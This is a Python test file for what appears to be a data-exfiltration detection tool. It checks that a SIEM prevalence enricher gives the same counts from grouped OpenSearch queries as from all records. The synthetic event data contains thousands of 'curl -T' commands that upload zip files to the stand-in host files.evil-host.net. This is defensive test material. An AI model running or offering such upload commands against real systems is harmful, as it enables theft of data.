"""Hosts and users are counted in groups where a search engine has them: what is said is what all records say."""

import asyncio
import json
from collections.abc import AsyncGenerator, Iterator, Sequence
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from exfilwatch.siem.registry import open_siem
from exfilwatch.siem.siem import Ask, Siem
from exfilwatch_playbooks.enrichment.enrichers import prevalence
from exfilwatch_playbooks.enrichment.enrichers.prevalence import Prevalence
from exfilwatch_playbooks.enrichment.history import Paths, Source

from ..siem.engines import KEYWORDS, Engine, engine  # noqa: TID252 (tests are no package on the path)
from .made import UPLOAD, days, means, process, subject_of

HOST = "files.evil-host.net"
CUT = {"type": "keyword", "ignore_above": 1024}
ECS: dict[str, Any] = {
    "dynamic_templates": [{"words": {"match_mapping_type": "string", "mapping": CUT}}],
    "properties": {
        "source": {"properties": {"ip": {"type": "ip"}}},
        "destination": {"properties": {"ip": {"type": "ip"}}},
    },
}


@pytest.fixture
def searching(request: pytest.FixtureRequest) -> Iterator[Engine]:
    with engine("opensearch", request.getfixturevalue("opensearch")) as found:
        yield found


def stamped(record: dict[str, Any]) -> dict[str, Any]:
    return {"@timestamp": f"{record['UtcTime'].replace(' ', 'T')}Z", **record}


def flat() -> list[dict[str, Any]]:
    """A script on some hosts by several users, again and again, and a line that is too long for a keyword."""
    made = [stamped(process(days(29.5), "SRV9", "CORP\\x", "notepad.exe a.txt"))]
    for at in range(2_600):
        host, user = f"WS{at % 13}", f"CORP\\u{at % 4}"
        made.append(stamped(process(when(at), host, user, f"curl -T C:\\x\\p{at % 5}.zip https://{HOST}/in")))
    long = f"curl -T C:\\x\\p1.zip https://{HOST}/in?{'q' * 3_000}"
    made += [stamped(process(days(12 - at), f"LONG{at}", "CORP\\l", long)) for at in range(3)]
    return made


def listed() -> list[dict[str, Any]]:
    """The same, with a user of several names."""
    return [*flat(), {**stamped(process(days(13), "L", "x", f"curl https://{HOST}/")), "User": ["CORP\\v", "CORP\\u1"]}]


def unlike() -> list[dict[str, Any]]:
    """No two with the same command."""
    lines = (f"curl -T C:\\x\\p{at}.zip https://{HOST}/in" for at in range(2_600))
    return [stamped(process(when(at), f"WS{at % 9}", "CORP\\u", line)) for at, line in enumerate(lines)]


def ecs() -> list[dict[str, Any]]:
    """Connections and look-ups, as a shipper tells them; commands of some."""
    made: list[dict[str, Any]] = []
    for at in range(2_600):
        record = {
            "@timestamp": f"{when(at):%Y-%m-%dT%H:%M:%S.%f}Z",
            "host": {"name": f"WS{at % 17}.corp.example"},
            "user": {"name": f"u{at % 3}", "domain": "CORP"},
            "process": {"name": "curl", "executable": "/usr/bin/curl", "pid": at},
            "event": {"id": f"{at}", "kind": "event", "category": ["network"], "type": ["start", "connection"]},
            "destination": {"ip": "8.8.4.4", "domain": HOST.upper() if at % 2 else HOST, "port": 443},
            "source": {"ip": f"10.0.0.{at % 17}", "port": 1024 + at},
            "network": {"transport": "tcp", "direction": "egress"},
        }
        if at % 7 == 0:
            record["event"] = {"id": f"p{at}", "kind": "event", "category": ["process"], "type": ["start"]}
            record["process"] = {"executable": "/usr/bin/curl", "command_line": f"curl https://{HOST}/", "pid": at}
            del record["destination"], record["source"], record["network"]
        if at % 3 == 0:
            record["event"]["type"] = ["start"]
        made.append(record)
    return made


def when(at: int) -> datetime:
    return days(20) + timedelta(minutes=7 * at, milliseconds=at % 1000)


def said(source: Source) -> dict[tuple[str, str], Any]:
    """What is said of it; of items only which there are."""

    async def ask():
        given = means(None, source)
        try:
            return await Prevalence("prevalence", Prevalence.Settings(), given).survey(subject_of(UPLOAD))
        finally:
            await given.history.close()
            if hasattr(source, "close"):
                await source.close()

    found = asyncio.run(ask())
    assert not found.problems
    return {(about, each.key): (each.value, each.number, sorted(each.items)) for about, each in found.answers}


class Counted:
    """A SIEM, and how many records it gave."""

    def __init__(self, siem: Siem) -> None:
        self.records = 0
        self._fetch = siem.fetch
        siem.fetch = self.fetch  # type: ignore[method-assign]

    async def fetch(self, ask: Ask) -> AsyncGenerator[Sequence[bytes]]:
        async for batch in self._fetch(ask):
            self.records += len(batch)
            yield batch


@pytest.mark.parametrize(
    ("mappings", "records", "part"),
    [(KEYWORDS, flat, 0.25), (ECS, ecs, 0.25), ({}, flat, 0.25), (KEYWORDS, listed, 2), (KEYWORDS, unlike, 2)],
    ids=["flat", "ecs", "text", "lists", "unlike"],
)
def test_groups_say_what_all_records_say(searching, tmp_path: Path, monkeypatch, mappings, records, part):
    searching.create(mappings=mappings)
    searching.put(records())
    file = tmp_path / "a.jsonl"
    file.write_text("".join(json.dumps(each) + "\n" for each in records()))
    expected = said(Paths((str(file),)))
    siem = open_siem("real", searching.settings())
    grouped = Counted(siem)
    assert said(siem) == expected
    monkeypatch.setattr(prevalence, "_TAKEN", ())
    siem = open_siem("real", searching.settings())
    every = Counted(siem)
    assert said(siem) == expected
    assert every.records >= 2_600
    assert grouped.records < part * every.records
